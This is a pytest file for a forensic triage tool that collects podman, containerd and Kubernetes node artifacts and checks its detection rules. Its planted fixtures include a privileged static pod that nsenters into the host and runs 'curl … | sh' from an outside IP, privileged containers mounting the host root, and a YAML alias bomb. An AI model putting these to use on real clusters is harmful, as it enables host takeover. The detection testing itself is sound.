"""Containers of podman (containers-storage written by the real podman, read with no podman running the
reads) and the Kubernetes node files beside them: static pod manifests (core/v1 Pod, as kubeadm writes
them), a kubelet pod folder, CRI-format pod logs (written by podman's k8s-file log driver, the same
format as the kubelet's: ``<RFC3339Nano> <stream> <P|F> <message>``) and kubeconfigs written by the real
kubectl. Live, the collector maps the running containers' processes from /proc/PID/cgroup, and marks
the program a container wrote into its own writable layer and runs. Through collect --root and analyze,
the rules name the dangerous ones only, and no kubeconfig secret reaches the bundle."""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import stat
import subprocess
import tarfile
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import need, run_triagent, summary_of

PODMAN = shutil.which("podman")
KUBECTL = shutil.which("kubectl")
# this test sandbox refuses to raise RLIMIT_NOFILE/NPROC (EPERM), which podman asks for by default as root
LIMITS = ["--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1000:1000"]
POD_UID = "0f3c2a9e-5d1b-4c7e-9a7d-2b1e6c0d4f11"
MINER_UID = "7b1d9e44-0c2f-4a61-b8e3-5f0a9c2d7e10"
TOKEN = "kzT0k3n-d0-n0t-l3ak-4f9a8b7c6d5e"
PASSWORD = "Hunter2-never-leaves"


class Podman:
    def __init__(self, storage: Path, run: Path):
        self.storage = storage
        self.base = [str(PODMAN), "--root", str(storage), "--runroot", str(run), "--cgroup-manager", "cgroupfs",
                     "--events-backend", "file", "--storage-driver", "overlay",
                     # no bind mount of the storage on itself (which podman's exit cleanup would redo after us)
                     "--storage-opt", "overlay.skip_mount_home=true"]

    def __call__(self, *args: str, check: bool = True) -> subprocess.CompletedProcess:
        proc = subprocess.run(self.base + list(args), capture_output=True, text=True, timeout=120)
        if check and proc.returncode != 0:
            pytest.fail(f"podman {' '.join(args)}: {proc.stderr[-2000:]}")
        return proc


STATIC_PODS = {
    # as kubeadm writes the control plane's: host network, its own state and certificates from the host
    "etcd.yaml": """apiVersion: v1
kind: Pod
metadata: {name: etcd, namespace: kube-system, labels: {component: etcd, tier: control-plane}}
spec:
  hostNetwork: true
  priorityClassName: system-node-critical
  containers:
  - name: etcd
    image: registry.k8s.io/etcd:3.5.9-0
    command: [etcd, --data-dir=/var/lib/etcd, --listen-client-urls=https://127.0.0.1:2379]
    volumeMounts:
    - {mountPath: /var/lib/etcd, name: etcd-data}
    - {mountPath: /etc/kubernetes/pki/etcd, name: etcd-certs}
  volumes:
  - {name: etcd-data, hostPath: {path: /var/lib/etcd, type: DirectoryOrCreate}}
  - {name: etcd-certs, hostPath: {path: /etc/kubernetes/pki/etcd, type: DirectoryOrCreate}}
""",
    # a log shipper: the host's logs read-only and the runtime's socket (by design; low)
    "fluent-bit.yaml": """apiVersion: v1
kind: Pod
metadata: {name: fluent-bit, namespace: logging}
spec:
  containers:
  - name: fluent-bit
    image: fluent/fluent-bit:2.1
    volumeMounts:
    - {name: varlog, mountPath: /var/log, readOnly: true}
    - {name: sock, mountPath: /run/containerd/containerd.sock}
  volumes:
  - {name: varlog, hostPath: {path: /var/log}}
  - {name: sock, hostPath: {path: /run/containerd/containerd.sock, type: Socket}}
""",
    # planted: a static pod (no admission control) with the host's PID namespace and root, privileged
    "kube-proxy-metrics.yaml": """apiVersion: v1
kind: Pod
metadata: {name: kube-proxy-metrics, namespace: kube-system}
spec:
  hostPID: true
  hostNetwork: true
  containers:
  - name: metrics
    image: docker.io/library/alpine:3.18
    command: [/bin/sh, -c]
    args: ["nsenter -t 1 -m -u -i -n sh -c 'curl -s http://203.0.113.9/k.sh | sh'; sleep infinity"]
    securityContext: {privileged: true}
    volumeMounts:
    - {name: host, mountPath: /host}
  volumes:
  - {name: host, hostPath: {path: /}}
""",
}


def _kubeconfigs(root: Path, work: Path) -> None:
    """An admin.conf with an embedded client certificate and key, and a user's config with a token and a
    password, both written by kubectl itself."""
    import datetime as dt

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "kubernetes-admin")])
    now = dt.datetime.now(dt.UTC)
    cert = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()) \
        .serial_number(7).not_valid_before(now).not_valid_after(now + dt.timedelta(days=1)).sign(key, hashes.SHA256())
    (work / "admin.key").write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                                       serialization.NoEncryption()))
    (work / "admin.crt").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (root / "etc/kubernetes").mkdir(parents=True, exist_ok=True)
    (root / "home/alice/.kube").mkdir(parents=True)
    admin, alice = root / "etc/kubernetes/admin.conf", root / "home/alice/.kube/config"

    def kubectl(config: Path, *args: str) -> None:
        subprocess.run([str(KUBECTL), "--kubeconfig", str(config), "config", *args], check=True,
                       capture_output=True, timeout=60)

    kubectl(admin, "set-cluster", "kubernetes", "--server=https://10.0.0.10:6443",
            f"--certificate-authority={work / 'admin.crt'}", "--embed-certs=true")
    kubectl(admin, "set-credentials", "kubernetes-admin", f"--client-certificate={work / 'admin.crt'}",
            f"--client-key={work / 'admin.key'}", "--embed-certs=true")
    kubectl(admin, "set-context", "kubernetes-admin@kubernetes", "--cluster=kubernetes", "--user=kubernetes-admin")
    kubectl(admin, "use-context", "kubernetes-admin@kubernetes")
    kubectl(alice, "set-cluster", "prod", "--server=https://k8s.example.test:443", "--insecure-skip-tls-verify=true")
    kubectl(alice, "set-credentials", "alice", f"--token={TOKEN}")
    kubectl(alice, "set-credentials", "bob", "--username=bob", f"--password={PASSWORD}")
    kubectl(alice, "set-context", "prod", "--cluster=prod", "--user=alice", "--namespace=payments")
    kubectl(alice, "use-context", "prod")


def _kubelet_pod(root: Path) -> None:
    """A kubelet pod folder as the kubelet lays it out (pkg/kubelet/kubelet_getters.go: volumes/<plugin with
    ~>/<name>, containers/<name>/<restart id>; etc-hosts from kubelet_pods.go's managed hosts file)."""
    pod = root / "var/lib/kubelet/pods" / POD_UID
    (pod / "volumes/kubernetes.io~projected/kube-api-access-x8k2p").mkdir(parents=True)
    (pod / "volumes/kubernetes.io~empty-dir/cache").mkdir(parents=True)
    (pod / "containers/web").mkdir(parents=True)
    (pod / "containers/web/5d7f1c2a").write_text("")
    (pod / "etc-hosts").write_text("# Kubernetes-managed hosts file.\n127.0.0.1\tlocalhost\n::1\tlocalhost "
                                   "ip6-localhost ip6-loopback\nfe00::0\tip6-localnet\n10.244.1.7\tweb-7d4b9c-x2v\n")


@pytest.fixture(scope="module")
def node(tmp_path_factory) -> SimpleNamespace:
    need(os.geteuid() == 0 and PODMAN is not None, "a real podman writes containers-storage (apt-get install podman)")
    busybox = shutil.which("busybox")
    need(busybox is not None, "busybox-static makes the container image (tests/run.sh installs it)")
    need(KUBECTL is not None, "kubectl writes the kubeconfigs (apt-get install kubernetes-client)")
    base = tmp_path_factory.mktemp("runtimes")
    root, work = base / "root", base / "work"
    (root / "etc").mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    work.mkdir()
    image = work / "rootfs"
    for folder in ("bin", "tmp"):
        (image / folder).mkdir(parents=True)
    shutil.copy(busybox, image / "bin/busybox")
    for applet in ("sh", "sleep", "cp", "mkdir", "echo"):
        (image / "bin" / applet).symlink_to("busybox")
    subprocess.run(["tar", "-C", str(image), "-cf", str(work / "image.tar"), "."], check=True)
    podman = Podman(root / "var/lib/containers/storage", work / "run")
    sock = work / "podman/podman.sock"  # a runtime socket for the CI runner to mount (podman checks it exists)
    sock.parent.mkdir()
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(sock))
    listener.close()
    pod_log = root / f"var/log/pods/kube-system_etcd-node1_{POD_UID}/etcd/0.log"
    pod_log.parent.mkdir(parents=True)
    common = ["--network", "none", *LIMITS]
    try:
        podman("import", str(work / "image.tar"), "local/tools:1")
        podman("run", "-d", "--name", "web", *common, "local/tools:1", "/bin/sh", "-c",
               "mkdir /tmp/.x && cp /bin/busybox /tmp/.x/sleep && exec /tmp/.x/sleep 600")
        podman("run", "-d", "--name", "quiet", *common, "local/tools:1", "/bin/sh", "-c", "exec sleep 600")
        podman("run", "-d", "--name", "ci-runner", *common, "-v", f"{sock}:/run/podman/podman.sock", "local/tools:1",
               "/bin/sh", "-c", "exec sleep 600")
        podman("run", "-d", "--name", "node-exporter", *common, "--pid", "host", "-v", "/:/host:ro", "local/tools:1",
               "/bin/sh", "-c", "exec sleep 600")
        # started: podman writes a container's OCI spec (userdata/config.json) only when it starts it
        podman("run", "-d", "--name", "helper", *common, "--privileged", "-v", "/:/host", "local/tools:1", "/bin/sh",
               "-c", "exec sleep 600")
        podman("create", "--name", "never-started", *common, "local/tools:1", "/bin/sh")
        # planted, never started: its spec is only in podman's bolt_state.db
        podman("create", "--name", "dormant", *common, "--privileged", "--pid", "host", "local/tools:1", "/bin/sh")
        podman("run", "--name", "etcd-log", "--log-driver", "k8s-file", "--log-opt", f"path={pod_log}", *common,
               "local/tools:1", "/bin/sh", "-c", "echo 'etcd started'; echo 'warning: slow fdatasync' >&2")
        miner_log = root / f"var/log/pods/shop_cache-5f9c_{MINER_UID}/cache/0.log"
        miner_log.parent.mkdir(parents=True)
        podman("run", "--name", "miner-log", "--log-driver", "k8s-file", "--log-opt", f"path={miner_log}", *common,
               "local/tools:1", "/bin/sh", "-c", "echo ' * POOL #1      stratum+tcp://203.0.113.7:3333 algo rx/0'; "
               "echo '[2026-01-01 00:00:01.000]  net      new job from 203.0.113.7:3333 diff 100001 algo rx/0'")
        pid = int(podman("inspect", "-f", "{{.State.Pid}}", "web").stdout.strip())
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not os.readlink(f"/proc/{pid}/exe").endswith("/tmp/.x/sleep"):
            time.sleep(0.2)
        manifests = root / "etc/kubernetes/manifests"
        manifests.mkdir(parents=True)
        for name, body in STATIC_PODS.items():
            (manifests / name).write_text(body)
        # the kubelet's own configuration may name another static pod folder (KubeletConfiguration)
        (root / "var/lib/kubelet").mkdir(parents=True)
        (root / "var/lib/kubelet/config.yaml").write_text(
            "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nstaticPodPath: /etc/kubelet.d\n")
        (root / "etc/kubelet.d").mkdir()
        (root / "etc/kubelet.d/debug.yaml").write_text(
            "apiVersion: v1\nkind: Pod\nmetadata: {name: node-debug}\nspec:\n  containers:\n"
            "  - {name: debug, image: busybox:1.36, command: [sleep, '3600']}\n")
        _kubelet_pod(root)
        _kubeconfigs(root, work)
        yield SimpleNamespace(root=root, storage=podman.storage, podman=podman, web_pid=pid,
                              admin_key=(work / "admin.key").read_text())
    finally:
        podman("rm", "-f", "-a", "-t", "0", check=False)
        # containers-storage leaves its overlay folder bind-mounted on itself (private propagation)
        point = str(podman.storage / "overlay")
        deadline = time.monotonic() + 15  # stacked when several podman commands ran; busy while conmon exits
        while time.monotonic() < deadline and point in Path("/proc/self/mountinfo").read_text():
            if subprocess.run(["umount", point], capture_output=True).returncode:
                time.sleep(0.2)


def _collect(root: str, live: bool, **options) -> list:
    from collectors.base import Context, FileCopy
    from collectors.files import containers

    items = list(containers.collect(Context(root=root, live=live, options=options)))
    for i in items:
        if isinstance(i, FileCopy):
            i.close()  # the engine would copy and close them
    return items


def _records(items: list, stream: str) -> list[dict]:
    from collectors.base import Record

    return [i.data for i in items if isinstance(i, Record) and i.stream == stream]


def _findings(records: dict[str, list[dict]]) -> dict[str, set[str]]:
    from agent.analysis.rules import evaluate, load_rules

    rules = [r for r in load_rules() if r.id.startswith(("TRI-CONT-", "TRI-RT-"))]
    rows = lambda source: [("b", source, n, r) for n, r in enumerate(records.get(source, []))]  # noqa: E731
    found: dict[str, set[str]] = {}
    for f in evaluate(rules, rows, time.time()):
        found.setdefault(f["rule"], set()).add(f.get("name") or f.get("container"))
    return found


def test_podman_containers_and_their_processes_live(node):
    """Live (root "/"): the storage a real podman wrote, and the real processes of its containers."""
    items = _collect("/", True, docker_roots=[], storage_roots=[str(node.storage)], rootless_storage=False,
                     containerd_tasks=[], manifests=[], kubelet_pods="/nonexistent",
                     pod_logs="/nonexistent", kubeconfigs=[])
    records = {r["name"]: r for r in _records(items, "containers")}
    assert set(records) == {"web", "quiet", "ci-runner", "node-exporter", "helper", "etcd-log", "never-started",
                            "dormant", "miner-log"}
    assert {r["runtime"] for r in records.values()} == {"podman"}
    web, helper, exporter, runner = records["web"], records["helper"], records["node-exporter"], records["ci-runner"]
    assert web["running"] and node.web_pid in web["running_pids"] and web["image"] == "localhost/local/tools:1"
    assert web["command"].startswith("/bin/sh -c mkdir /tmp/.x") and web["upper_dir"].endswith("/diff")
    assert helper["privileged"] and helper["mounts_host_root_rw"] and helper["running"]
    assert "CAP_SYS_ADMIN" in helper["capabilities"] and not helper["seccomp"]
    unstarted, dormant = records["never-started"], records["dormant"]  # their spec from podman's bolt database
    assert unstarted["config_path"].endswith("/libpod/bolt_state.db") and unstarted["state"] == "configured"
    assert not unstarted["running"] and unstarted["privileged"] is False and unstarted["started_utc"] is None
    assert dormant["privileged"] and dormant["host_pid"] and not dormant["running"]
    assert web["state"] == "running" and web["started_utc"] and web["finished_utc"] is None
    logger = records["etcd-log"]
    assert logger["state"] == "exited" and logger["exit_code"] == 0 and logger["finished_utc"]
    assert exporter["host_pid"] and exporter["mounts_host_root"] and not exporter["mounts_host_root_rw"]
    assert not exporter["privileged"] and runner["mounts_runtime_socket"] and not runner["privileged"]
    assert not records["etcd-log"]["running"]
    assert all(len(r["created_utc"]) > 19 for r in records.values())
    procs = _records(items, "container_processes")
    assert {"pid": node.web_pid, "exe": "/tmp/.x/sleep", "container": "web"}.items() <= \
        next(p for p in procs if p["pid"] == node.web_pid).items()
    files = {(f["container"], f["path"]): f for f in _records(items, "container_files")}
    dropped = files[("web", "/tmp/.x/sleep")]
    assert dropped["exec_pids"] == [node.web_pid] and dropped["file_type"] == "elf" and dropped["runtime"] == "podman"
    assert not any(f["exec_pids"] for (c, _), f in files.items() if c != "web")
    logs = [r for r in _records(items, "container_logs") if r["container"] == "etcd-log"]
    assert logs == []  # its log went to the pod log path, not ctr.log

    found = _findings({s: _records(items, s) for s in ("containers", "container_files")})
    assert found.get("TRI-RT-001") == {"web"}
    assert found.get("TRI-CONT-001") == {"helper", "dormant"}
    assert found.get("TRI-CONT-003") == {"ci-runner"}
    assert "quiet" not in set().union(*found.values()) and "node-exporter" not in set().union(*found.values())


def test_rootless_storage_under_a_home(node, tmp_path):
    """A user's podman storage (~/.local/share/containers/storage) is found from /etc/passwd's homes."""
    home = tmp_path / "root/home/alice/.local/share/containers/storage"
    (tmp_path / "root/etc").mkdir(parents=True)
    shutil.copy(node.root / "etc/passwd", tmp_path / "root/etc/passwd")

    def skip(folder: str, names: list[str]) -> list[str]:  # never open a socket or FIFO; no mounted view
        return [n for n in names if n == "merged" or not (
            stat.S_ISREG(os.lstat(os.path.join(folder, n)).st_mode) or os.path.isdir(os.path.join(folder, n))
            or os.path.islink(os.path.join(folder, n)))]

    shutil.copytree(node.storage / "overlay-containers", home / "overlay-containers", symlinks=True, ignore=skip)
    shutil.copytree(node.storage / "overlay-images", home / "overlay-images", symlinks=True, ignore=skip)
    shutil.copytree(node.storage / "libpod", home / "libpod", symlinks=True, ignore=skip)
    items = _collect(str(tmp_path / "root"), False, storage_roots=[])
    records = {r["name"]: r for r in _records(items, "containers")}
    assert records["web"]["rootless_user"] == "alice" and records["web"]["runtime"] == "podman"
    assert records["helper"]["privileged"] and records["dormant"]["privileged"] and not records["web"]["running_pids"]
    assert records["web"]["state"] == "running"  # as podman last recorded it (not live: no /proc to confirm)
    assert records["web"]["storage_root"] == "/home/alice/.local/share/containers/storage"


def test_kubernetes_node_files(node):
    items = _collect(str(node.root), False)
    pods = {(p["source"], p["name"]): p for p in _records(items, "k8s_pods")}
    evil = pods[("static-manifest", "kube-proxy-metrics")]
    assert evil["privileged"] and evil["host_pid"] and evil["host_network"] and evil["mounts_host_root_rw"]
    assert evil["path"] == "/etc/kubernetes/manifests/kube-proxy-metrics.yaml" and "curl -s" in evil["command"]
    etcd = pods[("static-manifest", "etcd")]
    assert etcd["host_network"] and not etcd["privileged"] and not etcd["mounts_host_root"]
    assert etcd["host_paths"] == ["/etc/kubernetes/pki/etcd", "/var/lib/etcd"]
    assert pods[("static-manifest", "fluent-bit")]["runtime_sockets"] == ["/run/containerd/containerd.sock"]
    debug = pods[("static-manifest", "node-debug")]
    assert debug["path"] == "/etc/kubelet.d/debug.yaml" and not debug["privileged"] and debug["command"] == "sleep 3600"
    kubelet = pods[("kubelet", "web-7d4b9c-x2v")]
    assert kubelet["uid"] == POD_UID and kubelet["secret_volumes"] == 1 and kubelet["container_names"] == ["web"]
    logs = [r for r in _records(items, "container_logs") if r.get("pod") == "etcd-node1"]
    assert [(r["stream"], r["message"], r["partial"]) for r in logs] == [
        ("stdout", "etcd started", False), ("stderr", "warning: slow fdatasync", False)]
    assert logs[0]["namespace"] == "kube-system" and logs[0]["pod_uid"] == POD_UID and logs[0]["container"] == "etcd"
    assert logs[0]["time_utc"].endswith("Z") and abs(time.time() - _epoch(logs[0]["time_utc"])) < 3600
    configs = {c["path"]: c for c in _records(items, "kubeconfigs")}
    admin, alice = configs["/etc/kubernetes/admin.conf"], configs["/home/alice/.kube/config"]
    assert admin["servers"] == ["https://10.0.0.10:6443"] and admin["auth_kinds"] == ["client-certificate"]
    assert admin["users"][0]["embedded_key"] and admin["current_context"] == "kubernetes-admin@kubernetes"
    assert alice["insecure_skip_tls_verify"] and alice["auth_kinds"] == ["basic", "token"]
    assert alice["user_names"] == ["alice", "bob"] and alice["contexts"][0]["namespace"] == "payments"
    everything = json.dumps([i.data for i in items if hasattr(i, "data")])
    key_body = "".join(node.admin_key.splitlines()[1:-1])
    for secret in (TOKEN, PASSWORD, key_body[:40], base64.b64encode(node.admin_key.encode()).decode()[:40]):
        assert secret not in everything


def _epoch(stamp: str) -> float:
    import datetime as dt

    return dt.datetime.fromisoformat(stamp.replace("Z", "+00:00")).timestamp()


def test_bundle_rules_and_no_kubeconfig_secret(node, tmp_path):
    out = tmp_path / "out"
    bundle = summary_of(run_triagent(["collect", "--root", str(node.root), "--output", str(out),
                                      "--artifacts", "containers"]))["bundle"]
    with tarfile.open(bundle) as tar:
        blob = b"".join(tar.extractfile(m).read() for m in tar.getmembers() if m.isfile())
    for secret in (TOKEN, PASSWORD, "".join(node.admin_key.splitlines()[1:3])):
        assert secret.encode() not in blob
    assert b"kube-proxy-metrics" in blob and b"https://k8s.example.test:443" in blob
    proc = run_triagent(["analyze", bundle, "--output", str(out / "analysis")])
    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
    with tarfile.open(summary["analysis"]) as tar:
        found = [json.loads(line) for line in tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()]
    by_rule: dict[str, set[str]] = {}
    for f in found:
        by_rule.setdefault(f["rule"], set()).add(f.get("name") or f.get("container") or f.get("path"))
    assert by_rule.get("TRI-RT-002") == {"kube-proxy-metrics"}
    assert by_rule.get("TRI-RT-005") == {"kube-proxy-metrics"}
    assert by_rule.get("TRI-RT-006") == {"kube-proxy-metrics"}
    assert by_rule.get("TRI-RT-004") == {"fluent-bit"}
    assert by_rule.get("TRI-RT-007") == {"/home/alice/.kube/config"}
    assert by_rule.get("TRI-RT-008") == {"cache"}  # the miner's pod log; etcd's stays quiet
    assert by_rule.get("TRI-CONT-001") == {"helper", "dormant"} and by_rule.get("TRI-CONT-003") == {"ci-runner"}
    above_low = {f.get("name") or f.get("container") for f in found if f["severity"] in ("critical", "high", "medium")}
    assert not above_low & {"etcd", "fluent-bit", "ci-runner", "node-exporter", "quiet", "node-debug"}, found
    assert not [f for f in found if f["rule"] == "TRI-RT-008" and f.get("container") == "etcd"]


def test_parsers_of_documented_formats():
    from collectors.files.runtimes import _CGROUP_ID, kubeconfig_facts, parse_cri_line

    assert parse_cri_line(b"2016-10-06T00:17:09.669794202Z stdout P log content 1") == {
        "time": "2016-10-06T00:17:09.669794202Z", "time_utc": "2016-10-06T00:17:09.669794Z", "stream": "stdout",
        "partial": True, "message": "log content 1"}
    shifted = parse_cri_line(b"2016-10-06T02:17:09.669794202+02:00 stderr F x")
    assert shifted["time_utc"] == "2016-10-06T00:17:09.669794Z"
    assert parse_cri_line(b"not a log line") is None
    cid = "a" * 64
    for path in (f"/system.slice/docker-{cid}.scope", f"/docker/{cid}", f"/libpod_parent/libpod-{cid}",
                 f"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod1.slice/cri-containerd-{cid}.scope",
                 f"/kubepods.slice/kubepods-pod2.slice/crio-{cid}.scope", f"/kubepods/besteffort/pod3/{cid}"):
        assert _CGROUP_ID.search(path).group(1) == cid, path
    assert _CGROUP_ID.search(f"/system.slice/crio-conmon-{cid}.scope").group(1) == cid  # skipped by "conmon"
    assert kubeconfig_facts({"users": "nonsense", "clusters": [None, 3]})["clusters"][0]["server"] is None


def test_privileged_from_the_spec_alone(node):
    """A privileged spec without podman's annotation (CRI-O, containerd): every capability, no seccomp."""
    from collectors.files.runtimes import oci_container

    listing = json.loads((node.storage / "overlay-containers/containers.json").read_text())
    helper = next(c for c in listing if "helper" in c["names"])
    spec = json.loads((node.storage / f"overlay-containers/{helper['id']}/userdata/config.json").read_text())
    spec["annotations"] = {}
    assert oci_container(spec, False)["privileged"]
    web = next(c for c in listing if "web" in c["names"])
    spec = json.loads((node.storage / f"overlay-containers/{web['id']}/userdata/config.json").read_text())
    assert not oci_container(spec, False)["privileged"]


CONTAINERD = shutil.which("containerd")
CTR = shutil.which("ctr")


@pytest.fixture(scope="module")
def containerd(tmp_path_factory, node) -> SimpleNamespace:
    """A private containerd (its own root, state and socket; no CRI plugin) running two containers from
    an image podman saved as an OCI archive: one privileged with the host root, which writes a program into
    its own layer and runs it, and a calm one."""
    need(CONTAINERD is not None and CTR is not None, "a real containerd runs the tasks (apt-get install containerd)")
    base = tmp_path_factory.mktemp("containerd")
    state, sock = base / "run/containerd", base / "containerd.sock"
    (base / "config.toml").write_text(
        f'version = 2\nroot = "{base}/lib/containerd"\nstate = "{state}"\n'
        f'disabled_plugins = ["io.containerd.grpc.v1.cri"]\n[grpc]\n  address = "{sock}"\n'
        f'[ttrpc]\n  address = "{sock}.ttrpc"\n')
    # runc keeps its state by container id under one folder for every containerd of the machine: ids unique
    evil, calm, dormant = f"evil-{os.getpid()}", f"calm-{os.getpid()}", f"dormant-{os.getpid()}"
    log = open(base / "containerd.log", "wb")  # noqa: SIM115 - closed below
    daemon = subprocess.Popen([str(CONTAINERD), "--config", str(base / "config.toml")], stdout=log,
                              stderr=subprocess.STDOUT, start_new_session=True)

    def ctr(*args: str, check: bool = True) -> subprocess.CompletedProcess:
        proc = subprocess.run([str(CTR), "-a", str(sock), *args], capture_output=True, text=True, timeout=120)
        if check and proc.returncode != 0:
            pytest.fail(f"ctr {' '.join(args)}: {proc.stderr[-2000:]}")
        return proc

    try:
        deadline = time.monotonic() + 30
        while not (sock.exists() and ctr("version", check=False).returncode == 0):
            if time.monotonic() > deadline or daemon.poll() is not None:
                pytest.fail(f"containerd did not start: {(base / 'containerd.log').read_text()[-2000:]}")
            time.sleep(0.3)
        node.podman("save", "--format", "oci-archive", "-o", str(base / "image.tar"), "local/tools:1")
        ctr("images", "import", str(base / "image.tar"))
        ref = ctr("images", "ls", "-q").stdout.split()[0]
        ctr("run", "-d", "--privileged", "--mount", "type=bind,src=/,dst=/host,options=rbind:rw", ref, evil,
            "/bin/sh", "-c", "mkdir /tmp/.x && cp /bin/busybox /tmp/.x/sleep && exec /tmp/.x/sleep 600")
        ctr("run", "-d", ref, calm, "/bin/sh", "-c", "exec sleep 600")
        # planted, never started: only containerd's meta.db knows it
        ctr("container", "create", "--privileged", "--label", "team=red", "--mount",
            "type=bind,src=/,dst=/host,options=rbind:rw", ref, dormant, "/bin/sh")
        pid = int((state / f"io.containerd.runtime.v2.task/default/{evil}/init.pid").read_text())
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not os.readlink(f"/proc/{pid}/exe").endswith("/tmp/.x/sleep"):
            time.sleep(0.2)
        yield SimpleNamespace(tasks=state / "io.containerd.runtime.v2.task", evil_pid=pid, evil=evil, calm=calm,
                              dormant=dormant, root=base / "lib/containerd")
    finally:
        for name in (evil, calm):
            ctr("task", "kill", "-s", "SIGKILL", name, check=False)
        time.sleep(0.5)
        for name in (evil, calm):
            ctr("task", "delete", "-f", name, check=False)
            ctr("container", "delete", name, check=False)
        ctr("container", "delete", dormant, check=False)
        daemon.terminate()
        try:
            daemon.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(daemon.pid, 9)
            daemon.wait()
        log.close()


def test_containerd_tasks_live(containerd):
    """Live: each running task's OCI spec and init.pid, its snapshot's upper folder from the rootfs overlay
    mount, and the program the privileged one wrote and runs."""
    items = _collect("/", True, docker_roots=[], storage_roots=[], rootless_storage=False,
                     containerd_tasks=[str(containerd.tasks)], containerd_roots=[str(containerd.root)],
                     manifests=[], kubelet_pods="/nonexistent", pod_logs="/nonexistent", kubeconfigs=[])
    records = {r["name"].split("-")[0]: r for r in _records(items, "containers")}
    assert set(records) == {"evil", "calm", "dormant"} and {r["runtime"] for r in records.values()} == {"containerd"}
    evil, calm, dormant = records["evil"], records["calm"], records["dormant"]
    assert dormant["state"] == "no-task" and dormant["privileged"] and dormant["mounts_host_root_rw"]
    assert dormant["labels"]["team"] == "red" and dormant["image"] == evil["image"] == "localhost/local/tools:1"
    assert dormant["upper_dir"].endswith("/fs") and not dormant["running"] and dormant["created_utc"].endswith("Z")
    assert abs(_epoch(dormant["created_utc"]) - time.time()) < 600
    assert evil["privileged"] and evil["mounts_host_root_rw"] and evil["running_pids"] == [containerd.evil_pid]
    assert evil["namespace"] == "default" and evil["upper_dir"].endswith("/fs") and not calm["privileged"]
    assert calm["running"] and calm["cgroups_path"] == f"/default/{containerd.calm}"
    assert calm["pid"] in calm["running_pids"]
    files = {(f["container"], f["path"]): f for f in _records(items, "container_files")}
    assert files[(containerd.evil, "/tmp/.x/sleep")]["exec_pids"] == [containerd.evil_pid]
    from collectors.base import FileCopy

    copies = [i.path for i in items if isinstance(i, FileCopy)]
    for i in items:
        if isinstance(i, FileCopy):
            i.close()
    meta = str(containerd.root / "io.containerd.metadata.v1.bolt/meta.db")
    assert meta in copies and str(containerd.root / "io.containerd.snapshotter.v1.overlayfs/metadata.db") in copies
    assert str(containerd.tasks / f"default/{containerd.evil}/config.json") in copies
    found = _findings({s: _records(items, s) for s in ("containers", "container_files")})
    assert found.get("TRI-RT-001") == {containerd.evil}
    assert found.get("TRI-CONT-001") == {containerd.evil, containerd.dormant}
    offline = _collect("/", False, docker_roots=[], storage_roots=[], rootless_storage=False, containerd_tasks=[],
                       containerd_roots=[str(containerd.root)], manifests=[], kubelet_pods="/nonexistent",
                       pod_logs="/nonexistent", kubeconfigs=[])  # meta.db alone: the same writable layers
    uppers = {r["name"]: r["upper_dir"] for r in _records(offline, "containers")}
    assert uppers[containerd.evil] == evil["upper_dir"] and uppers[containerd.dormant] == dormant["upper_dir"]
    assert containerd.calm not in set().union(*found.values())


def test_a_yaml_alias_bomb_is_refused(tmp_path):
    """A hostile static manifest whose aliases expand to 9^9 images: refused as a Problem, at once, instead of
    building the expansion (which str() of the image field did)."""
    from collectors.base import Problem

    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]" for n in range(1, 9)]
    body = "\n".join(levels) + "\nkind: Pod\nmetadata: {name: bomb}\nspec:\n  containers:\n  - {name: c, image: *a8}\n"
    (tmp_path / "etc/kubernetes/manifests").mkdir(parents=True)
    (tmp_path / "etc/kubernetes/manifests/bomb.yaml").write_text(body)
    started = time.monotonic()
    items = _collect(str(tmp_path), False)
    assert time.monotonic() - started < 10
    assert not _records(items, "k8s_pods")
    assert any(isinstance(i, Problem) and "aliases" in i.message for i in items)


def test_log_tails_share_one_budget(node):
    from collectors.base import FileCopy, Problem

    items = _collect(str(node.root), False, max_log_total_bytes=0)
    for i in items:
        if isinstance(i, FileCopy):
            i.close()
    assert not _records(items, "container_logs")
    assert not [i for i in items if isinstance(i, FileCopy) and i.path.endswith(".log")]
    assert any(isinstance(i, Problem) and "max_log_total_bytes" in i.message for i in items)


def test_bolt_reader_on_damaged_files(node):
    """A bolt file cut short or overwritten: no exception out of the reader, a Problem in the stream."""
    from collectors.base import Problem
    from collectors.files.runtimes import Bolt

    data = (node.storage / "libpod/bolt_state.db").read_bytes()
    bolt = Bolt(data)
    ids = list(bolt.bucket(b"ctr"))
    assert len(ids) == 9 and all(bolt.bucket(b"ctr", i)[b"config"].startswith(b"{") for i in ids)
    listed_once, again = bolt.items, Bolt(data)  # walking down a listing reads each page once, not once per key
    for i in ids:
        again._buckets.clear()
        again.bucket(b"ctr", i)
    assert listed_once < again.items and not bolt.truncated
    short = Bolt(data[:3 * 4096])  # the meta pages survive, the pages they point to do not
    assert short.bucket(b"ctr") == {}
    with pytest.raises(ValueError):
        Bolt(b"\0" * 8192)
    looped, root = bytearray(data), Bolt(data).root
    base = root * 4096  # the root bucket's page made a branch whose only child is itself
    looped[base + 8:base + 12] = (0x01).to_bytes(2, "little") + (1).to_bytes(2, "little")
    looped[base + 16:base + 32] = (16).to_bytes(4, "little") + (3).to_bytes(4, "little") + root.to_bytes(8, "little")
    started = time.monotonic()
